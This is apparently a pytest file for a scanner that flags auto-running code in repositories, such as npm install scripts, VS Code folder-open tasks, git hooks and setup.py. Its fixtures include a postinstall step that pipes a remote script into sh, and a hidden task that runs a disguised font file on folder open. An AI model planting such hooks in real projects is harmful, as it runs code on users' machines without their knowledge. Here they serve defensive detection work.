"""Auto-run surfaces: what they run, how bad a baseline they are, JSONC, command resolution."""

from __future__ import annotations

import json
from pathlib import Path

from inspector.model import Severity
from inspector.static import walk
from inspector.static.autorun import find_surfaces
from inspector.static.autorun.commands import files_run_by
from inspector.static.autorun.jsonc import loads_jsonc
from inspector.static.interface import RepoView


def make_repo(tmp_path: Path, files: dict[str, str]) -> RepoView:
    for rel, content in files.items():
        target = tmp_path / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content)
    found, _ = walk(tmp_path)
    return RepoView(tmp_path, found)


def surfaces(tmp_path: Path, files: dict[str, str]):
    hits, extra = find_surfaces(make_repo(tmp_path, files))
    return {hit.label: hit for hit in hits}, extra


def package(scripts: dict[str, str]) -> str:
    return json.dumps({"name": "x", "scripts": scripts}, indent=2)


def test_jsonc_comments_and_trailing_commas() -> None:
    text = '{\n  // a comment\n  "a": "http://x", /* block\n */ "b": [1, 2,],\n}'
    assert loads_jsonc(text) == {"a": "http://x", "b": [1, 2]}


def test_command_resolution_follows_chains_background_and_concurrently() -> None:
    exists = {"server/server.js", "server/index.js", "a.js", "scripts/b.sh"}.__contains__
    assert files_run_by("node server/server.js | react-scripts start", "", exists) == ["server/server.js"]
    assert files_run_by("start /b node server || nohup node server &", "", exists) == ["server/index.js"]
    assert files_run_by('concurrently "node a.js" "vite"', "", exists) == ["a.js"]
    assert files_run_by("cross-env A=1 bash ./scripts/b.sh", "", exists) == ["scripts/b.sh"]
    assert files_run_by("husky install", "", exists) == []


def test_prepare_starting_the_server_is_medium_and_records_the_file(tmp_path: Path) -> None:
    hits, _ = surfaces(
        tmp_path, {"package.json": package({"prepare": "node server/server.js"}), "server/server.js": "require('http')"}
    )
    hit = hits["package.json#scripts.prepare"]
    assert hit.surface.runs_files == ("server/server.js",)
    assert hit.surface.trigger == "npm install"
    assert hit.finding is not None and hit.finding.severity == Severity.MEDIUM
    assert hit.finding.line == 4


def test_background_start_at_install_is_high_and_curl_pipe_sh_critical(tmp_path: Path) -> None:
    hits, _ = surfaces(
        tmp_path,
        {
            "package.json": package(
                {
                    "prepare": "start /b node server || nohup node server &",
                    "postinstall": "curl -s https://x.test/i | sh",
                }
            ),
            "server/index.js": "",
        },
    )
    assert hits["package.json#scripts.prepare"].finding.severity == Severity.HIGH
    assert hits["package.json#scripts.postinstall"].finding.severity == Severity.CRITICAL


def test_husky_and_local_build_scripts_are_quiet(tmp_path: Path) -> None:
    hits, extra = surfaces(
        tmp_path,
        {
            "package.json": package(
                {"prepare": "husky install", "postinstall": "node scripts/build.js", "start": "node index.js"}
            ),
            "scripts/build.js": "",
            "index.js": "",
            ".husky/pre-commit": "npx lint-staged\n",
        },
    )
    assert all(h.finding is None or h.finding.severity.rank <= Severity.INFO.rank for h in hits.values())
    assert hits["package.json#scripts.start"].surface.runs_files == ("index.js",)
    assert ".husky/pre-commit" in hits and extra == []


def test_folder_open_task_with_hidden_terminal(tmp_path: Path) -> None:
    tasks = """{
  // VS Code tasks
  "version": "2.0.0",
  "tasks": [
    {"label": "build", "type": "shell", "command": "npm run build"},
    {
      "label": "env",
      "type": "shell",
      "command": "node public/fonts/fa.woff2",
      "presentation": {"reveal": "silent", "echo": false},
      "runOptions": {"runOn": "folderOpen"},
    },
  ],
}"""
    hits, _ = surfaces(tmp_path, {".vscode/tasks.json": tasks, "public/fonts/fa.woff2": "x"})
    [hit] = hits.values()
    assert hit.surface.kind == "vscode-folder-open"
    assert hit.surface.runs_files == ("public/fonts/fa.woff2",)
    assert hit.surface.line == 11
    assert hit.finding.severity == Severity.HIGH
    assert hit.span[0] <= 11 <= hit.span[1]


def test_build_task_without_folder_open_is_not_a_surface(tmp_path: Path) -> None:
    hits, _ = surfaces(tmp_path, {".vscode/tasks.json": '{"tasks": [{"label": "b", "command": "make"}]}'})
    assert hits == {}


def test_settings_allow_automatic_tasks(tmp_path: Path) -> None:
    _, extra = surfaces(tmp_path, {".vscode/settings.json": '{"task.allowAutomaticTasks": "on",}'})
    assert [f.rule for f in extra] == ["auto-run.vscode-automatic-tasks"]


def test_devcontainer_git_hooks_hooks_path_envrc_and_build_configs(tmp_path: Path) -> None:
    hits, extra = surfaces(
        tmp_path,
        {
            ".devcontainer/devcontainer.json": '{"postCreateCommand": "bash setup.sh", "initializeCommand": "echo hi"}',
            "setup.sh": "echo",
            ".git/hooks/post-checkout": "#!/bin/sh\nnode .git/hooks/x.js\n",
            ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
            ".git/config": "[core]\n\thooksPath = .githooks\n",
            ".githooks/pre-push": "#!/bin/sh\n",
            ".envrc": "source_env .env\n",
            "vite.config.js": "export default {}",
            "src/tailwind.config.cjs": "module.exports = {}",
        },
    )
    assert hits[".devcontainer/devcontainer.json#postCreateCommand"].surface.runs_files == ("setup.sh",)
    assert hits[".devcontainer/devcontainer.json#initializeCommand"].finding.severity == Severity.MEDIUM
    assert hits[".git/hooks/post-checkout"].finding.severity == Severity.HIGH
    assert ".git/hooks/pre-commit.sample" not in hits
    assert hits[".githooks/pre-push"].finding.severity == Severity.HIGH
    assert [f.rule for f in extra] == ["auto-run.git-hooks-path"]
    assert hits[".envrc"].surface.kind == "direnv"
    assert hits["vite.config.js"].surface.kind == "build-config"
    assert hits["src/tailwind.config.cjs"].surface.runs_files == ("src/tailwind.config.cjs",)


def test_setup_py_network_is_high_and_version_exec_is_quiet(tmp_path: Path) -> None:
    hits, _ = surfaces(tmp_path, {"setup.py": "import urllib.request\nurllib.request.urlopen('http://x.test')\n"})
    assert hits["setup.py#setup"].finding.severity == Severity.HIGH
    hits, _ = surfaces(tmp_path, {"setup.py": "exec(open('pkg/version.py').read())\nsetup(name='x')\n"})
    assert hits["setup.py#setup"].finding is None


def test_custom_in_tree_build_backend(tmp_path: Path) -> None:
    toml = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    hits, _ = surfaces(tmp_path, {"pyproject.toml": toml, "_build/backend.py": ""})
    hit = hits["pyproject.toml#build-backend"]
    assert hit.surface.runs_files == ("_build/backend.py",)
    assert hit.finding.severity == Severity.MEDIUM


def test_broken_manifests_become_info_findings(tmp_path: Path) -> None:
    _, extra = surfaces(tmp_path, {"package.json": "{not json", ".vscode/tasks.json": "[" * 5000})
    assert {f.rule for f in extra} == {"analysis.unparsed-manifest"}
